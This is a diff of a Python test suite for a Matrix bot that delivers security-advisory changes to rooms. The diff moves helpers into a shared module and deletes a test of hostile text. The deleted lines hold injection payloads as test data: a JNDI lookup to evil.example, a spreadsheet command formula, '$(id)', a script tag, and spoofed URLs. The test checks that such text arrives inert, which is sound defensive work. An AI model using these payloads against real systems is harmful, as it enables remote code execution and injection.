@@ -4,120 +4,24 @@ from __future__ import annotations
 
 import asyncio
 import logging
-from collections.abc import Awaitable, Callable
 from dataclasses import replace
-from datetime import datetime, timedelta
-from itertools import count
-from typing import Any  # JSON, as the wire has it
 
 import pytest
 from sqlalchemy import select
 
 from bot.channels.base import ChannelError, Gone, Refused
-from bot.channels.cards import Cards
-from bot.channels.matrix import Homeserver, MatrixChannel
+from bot.channels.matrix import MatrixChannel
 from bot.channels.matrix.errors import Limited
-from bot.deliver import Deliverer
-from bot.folding import Folder
-from bot.messages.compose import Composer
 from bot.messages.model import freeze, make_message
-from bot.messages.safe import undefused
-from bot.outbox import enqueue_changes
-from storage import delivery
 from storage import delivery_settings as wishes
-from storage.changes import add_changes
-from storage.delivery import DueDestination
-from storage.delivery_tables import attempts, deliveries
+from storage.delivery_tables import attempts
 from storage.store import Store
-from storage.tables import operator_notes
-from tests.advisories.test_filters import DRAFT, KEV, NOW
-from tests.bot.channels.matrix.test_text import read_back
+from tests.advisories.test_filters import KEV, NOW
+from tests.bot.channels.matrix.sending import answers, at, deliver, new_id, notes, owe, states, with_channel
 from tests.servers.fault_proxy import Fault, fault_proxy
 from tests.servers.synapse import Person, Synapse
 
 pytestmark = pytest.mark.server
-COMPOSER = Composer(base_url="https://board.example", titles={"copy-fail": "Copy Fail"})
-NUMBERS = count(1)
-
-
-@pytest.fixture(scope="module")
-def alice(synapse: Synapse) -> Person:
-    return synapse.person("alice")
-
-
-@pytest.fixture(scope="module")
-def bot(synapse: Synapse) -> Person:
-    return synapse.person("bot")
-
-
-@pytest.fixture
-def room(alice: Person, bot: Person) -> str:
-    """A new room of alice's, with the bot."""
-    made = alice.create_room(bot.user)
-    bot.join(made)
-    return made
-
-
-def with_channel(url: str, bot: Person, use: Callable[[MatrixChannel], Awaitable[None]], **more: Any) -> None:
-    """Uses a channel of its own, as a new process has it."""
-
-    async def run() -> None:
-        channel = MatrixChannel(Homeserver(url, bot.user, more.pop("token", bot.token), timeout=20), **more)
-        try:
-            await use(channel)
-        finally:
-            await channel.close()
-
-    asyncio.run(run())
-
-
-def at(room: str, thread: str = "") -> DueDestination:
-    return DueDestination(id=1, kind="matrix", address=room, thread=thread)
-
-
-def new_id() -> str:
-    return f"message-{next(NUMBERS)}"
-
-
-def owe(store: Store, room: str, *drafts: Any, also: tuple[str, ...] = ()) -> None:
-    """Changes for a subscriber in this room, and in others."""
-    with store.write() as connection:
-        for each in (room, *also):
-            one = delivery.ensure_destination(connection, kind="matrix", address=each, now=NOW)
-            delivery.add_subscription(connection, one, "copy-fail debian/12", now=NOW)
-        enqueue_changes(connection, add_changes(connection, drafts or [DRAFT]), now=NOW)
-
-
-def deliver(store: Store, url: str, bot: Person, *minutes: int, **more: Any) -> None:
-    """A round of delivering and card keeping at each of these minutes."""
-
-    async def rounds(channel: MatrixChannel) -> None:
-        for one in minutes:
-            moment = NOW + timedelta(minutes=one)
-
-            def now(moment: datetime = moment) -> datetime:
-                return moment
-
-            deliverer = Deliverer(store, {"matrix": channel}, folder=Folder(COMPOSER, waited=True), clock=now)
-            await deliverer.deliver_due()
-            await Cards(store, deliverer.channels, COMPOSER, clock=now).repair()
-
-    with_channel(url, bot, rounds, **more)
-
-
-def answers(store: Store) -> list[str]:
-    with store.read() as connection:
-        return list(connection.execute(select(attempts.c.answer).order_by(attempts.c.id)).scalars())
-
-
-def states(store: Store) -> list[str]:
-    with store.read() as connection:
-        return list(connection.execute(select(deliveries.c.state).order_by(deliveries.c.id)).scalars())
-
-
-def notes(store: Store) -> list[str]:
-    with store.read() as connection:
-        return list(connection.execute(select(operator_notes.c.text).order_by(operator_notes.c.note_id)).scalars())
 
 
 def test_a_card_its_thread_and_its_edit(store: Store, synapse: Synapse, bot: Person, room: str) -> None:
@@ -247,7 +151,7 @@ def test_a_room_that_put_the_bot_out(store: Store, synapse: Synapse, alice: Pers
     deliver(store, synapse.url, bot, 0)
     with store.read() as connection:
         found = [(one.state, one.reason) for one in wishes.list_destinations(connection)]
-    reason = f"M_FORBIDDEN User {bot.user} not in room {room}"
+    reason = "M_FORBIDDEN User [person] not in room [room]"
     assert found == [("disabled", reason), ("active", None)]
     assert notes(store) == [f"matrix destination 1 is disabled: {reason}"]
     assert len(alice.messages(other, bot.user)) == 1
@@ -269,12 +173,10 @@ def test_a_replaced_room_waits(store: Store, synapse: Synapse, alice: Person, bo
     """A room that was upgraded is not disabled: the operator is told once, the news are kept; after weeks it is."""
     owe(store, room)
     alice.call("POST", "rooms", room, "upgrade", body={"new_version": "12"})
-    successor = alice.get_state(room, "m.room.tombstone")["replacement_room"]
     said: list[str] = []
     deliver(store, synapse.url, bot, 0, 120, note=said.append)
     assert (states(store), answers(store)) == (["pending"], ["notsent", "notsent"])
-    told = f"Matrix room {room} was replaced by {successor}: an administrator of the new room must invite the bot"
-    assert said == [told]
+    assert said == ["matrix destination 1: its room was replaced; an administrator of the new room must invite the bot"]
     late = NOW.timestamp() + 10 * 365 * 86_400
     deliver(store, synapse.url, bot, 600, clock=lambda: late)
     assert states(store) == ["rejected"]
@@ -370,83 +272,3 @@ def test_kill_9_of_the_homeserver(synapse: Synapse, bot: Person, room: str) -> N
     assert lost
     with_channel(synapse.url, bot, again)
     assert sorted(one["body"] for one in bot.messages(room, bot.user)) == sorted(f"T{number}" for number in range(40))
-
-
-MENTIONS = (
-    "@room",
-    "@everyone @here",
-    "@bob",
-    "bob",
-    "@bob:localhost",
-    "<!channel>",
-    "[x](tg://user?id=1)",
-    "https://matrix.to/#/@bob:localhost",
-)
-
-
-def test_mentions_raise_nobodys_count(synapse: Synapse, alice: Person, bot: Person) -> None:
-    """Who wants to hear of mentions only hears nothing of these strings, from a bot that could ping the room."""
-    bob = synapse.person("bob")
-    room = alice.create_room(bot.user, bob.user, power_level_content_override={"users": {bot.user: 100}})
-    for one in (bot, bob):
-        one.join(room)
-    bob.call("PUT", "pushrules", "global", "room", room, body={"actions": []})
-
-    async def send(channel: MatrixChannel) -> None:
-        for text in MENTIONS:
-            await channel.send(at(room), new_id(), freeze(make_message(text, [text])))
-
-    def counts() -> dict[str, Any]:
-        found: dict[str, Any] = bob.call("GET", "sync")["rooms"]["join"][room]["unread_notifications"]
-        return found
-
-    with_channel(synapse.url, bot, send)
-    assert len(bob.messages(room, bot.user)) == len(MENTIONS)
-    assert counts() == {"notification_count": 0, "highlight_count": 0}
-    alice.say(room, "bob", **{"m.mentions": {"user_ids": [bob.user]}})
-    assert counts() == {"notification_count": 1, "highlight_count": 1}
-
-
-HOSTILE = (
-    "CVE-2026-\u202e31431",
-    "CVE-2026\u200b-31431",
-    "\u0421VE-2026-31431",
-    "CVE\u20112026\u201131431",
-    "CVE-\u0662\u0660\u0662\u0666-31431 \uff12",
-    "xn--gt-fka.kerneI.org git.kerneI.org",
-    "https://git.kernel.org@evil.example/",
-    "nul \x00 \x08 \x0b \x1b \ufffe",
-    "Z" + "\u0301" * 10_000,
-    "\x1b[31mred\x1b[0m",
-    "first\n2026-05-01 ERROR faked",
-    "@room @everyone @here @bob <!channel> [x](tg://user?id=1) https://matrix.to/#/@bob:localhost",
-    "[safe](evil) ![](beacon) ||spoiler|| * ` _",
-    "<a@b.c>",
-    "a < b && c > d",
-    "<p>x</p><ul><br><script>alert(1)</script><mx-reply>y</mx-reply>",
-    "- . ! & &amp; &lt;b&gt;",
-    "x" * 4090 + "\U0001f9df\u200d\u2640\ufe0f",
-    "y" * 40_960,
-    "=cmd|' /C calc'!A0",
-    "$(id) ${jndi:ldap://evil.example/a} {{7*7}}",
-    '" onclick="x" data-mx-maths="x"',
-)
-
-
-def test_hostile_text_arrives_as_text(store: Store, synapse: Synapse, bot: Person, room: str) -> None:
-    """Text tricks in a change: what arrives has our tags only and, read back, equals the plain text."""
-    drafts = [replace(DRAFT, text=one, field=f"f{number}") for number, one in enumerate(HOSTILE)]
-    owe(store, room, *drafts)
-    deliver(store, synapse.url, bot, 0)
-    said = bot.messages(room, bot.user)
-    whole = ""
-    for one in said:
-        text, tags, links = read_back(one)
-        assert text == undefused(one["body"])
-        assert tags <= {"strong", "code", "a"}
-        assert links <= {"https://board.example/advisories/PW-2026-1"}
-        assert one["m.mentions"] == {}
-        whole += text
-    for shown in ("\\u{202E}", "\\u{200B}", "[safe](evil)", "a < b && c > d", "<script>", "{{7*7}}"):
-        assert shown in whole
-    assert whole.count("(debian)") + whole.count("…") == len(HOSTILE)
